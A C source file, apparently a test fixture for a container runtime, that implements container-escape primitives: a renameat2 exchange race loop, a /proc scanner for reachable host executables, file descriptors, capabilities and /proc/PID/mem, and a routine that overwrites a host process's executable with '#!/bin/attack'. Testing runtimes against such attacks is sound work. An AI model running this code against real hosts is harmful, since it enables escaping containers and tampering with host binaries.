/* What an attacker runs inside of a container. Built statically by the fixture `attacker`.
 *
 *   attack swap A B         exchange two names for ever, as fast as can be
 *   attack fds              print what is open, a line each: NUMBER TARGET
 *   attack watch MARKER     print all that can be had of every process that turns up, for ever:
 *                             exe TARGET       its executable could be opened
 *                             root MARKER      the host's file MARKER is below its root
 *                             fd TARGET        a file or directory that it holds could be opened
 *                             caps MASK        its effective capabilities, while they exceed ours
 *                             attached TARGET  it could be traced while it ran this executable
 *   attack overwrite NAME   wait for a process whose executable has NAME in its path, hold that, and when it can be
 *                           written to, write to it
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char said[4096][160];
static int count;

/* A line is printed once. */
static void say(const char *what, const char *detail)
{
    char line[160];

    snprintf(line, sizeof line, "%s %s", what, detail);
    for (int i = 0; i < count; i++)
        if (!strcmp(said[i], line))
            return;
    if (count < 4096)
        strcpy(said[count++], line);
    printf("%s\n", line);
    fflush(stdout);
}

static const char *target(const char *path)
{
    static char text[PATH_MAX];
    ssize_t length = readlink(path, text, sizeof text - 1);

    text[length < 0 ? 0 : length] = 0;
    return text;
}

static unsigned long long capabilities(const char *pid)
{
    char path[64], line[256];
    unsigned long long mask = 0;
    FILE *file;

    snprintf(path, sizeof path, "/proc/%s/status", pid);
    if (!(file = fopen(path, "r")))
        return 0;
    while (fgets(line, sizeof line, file))
        if (sscanf(line, "CapEff: %llx", &mask) == 1)
            break;
    fclose(file);
    return mask;
}

static void held_by(const char *pid)
{
    char path[PATH_MAX];
    struct dirent *entry;
    struct stat status;
    DIR *list;

    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    if (!(list = opendir(path)))
        return;
    while ((entry = readdir(list))) {
        snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
        if (isdigit(entry->d_name[0]) && !stat(path, &status) && (S_ISREG(status.st_mode) || S_ISDIR(status.st_mode)))
            say("fd", target(path));
    }
    closedir(list);
}

static void probe(const char *pid, const char *marker, unsigned long long ours)
{
    char path[PATH_MAX], exe[PATH_MAX], text[32];
    unsigned long long theirs;
    int fd;

    snprintf(exe, sizeof exe, "/proc/%s/exe", pid);
    if ((fd = open(exe, O_RDONLY)) >= 0) {
        close(fd);
        say("exe", target(exe));
    }
    snprintf(path, sizeof path, "/proc/%s/root%s", pid, marker);
    if (!access(path, F_OK))
        say("root", marker);
    held_by(pid);
    if ((theirs = capabilities(pid)) & ~ours) {
        snprintf(text, sizeof text, "%llx", theirs);
        say("caps", text);
    }
    /* Attaching disturbs; the first of each kind of executable is enough. */
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    if ((fd = open(path, O_RDWR)) >= 0) {
        close(fd);
        say("attached", target(exe));
    }
}

static void watch(const char *marker)
{
    unsigned long long ours = capabilities("self");
    struct dirent *entry;
    DIR *list = opendir("/proc");
    char self[32];

    snprintf(self, sizeof self, "%d", getpid());
    say("watching", marker);
    for (;;) {
        rewinddir(list);
        while ((entry = readdir(list)))
            if (isdigit(entry->d_name[0]) && strcmp(entry->d_name, self) && strcmp(entry->d_name, "1"))
                probe(entry->d_name, marker, ours);
    }
}

static void overwrite(const char *name)
{
    char path[PATH_MAX];
    struct dirent *entry;
    DIR *list = opendir("/proc");
    int held = -1, fd;

    say("watching", name);
    while (held < 0) {
        rewinddir(list);
        while (held < 0 && (entry = readdir(list))) {
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            if (isdigit(entry->d_name[0]) && strstr(target(path), name))
                held = open(path, O_PATH);
        }
    }
    say("held", name);
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    while ((fd = open(path, O_WRONLY)) < 0)
        usleep(1000);
    if (write(fd, "#!/bin/attack", 13) == 13)
        say("overwritten", name);
    else
        say("refused", strerror(errno));
}

static void descriptors(void)
{
    char path[64];
    struct stat status;

    for (int fd = 0; fd < 4096; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        if (!fstat(fd, &status))
            printf("%d %s\n", fd, target(path));
    }
}

int main(int argc, char **argv)
{
    if (argc == 4 && !strcmp(argv[1], "swap"))
        for (;;)
            syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2);
    if (argc == 3 && !strcmp(argv[1], "watch"))
        watch(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "overwrite"))
        overwrite(argv[2]);
    if (argc == 2 && !strcmp(argv[1], "fds"))
        descriptors();
    return 0;
}
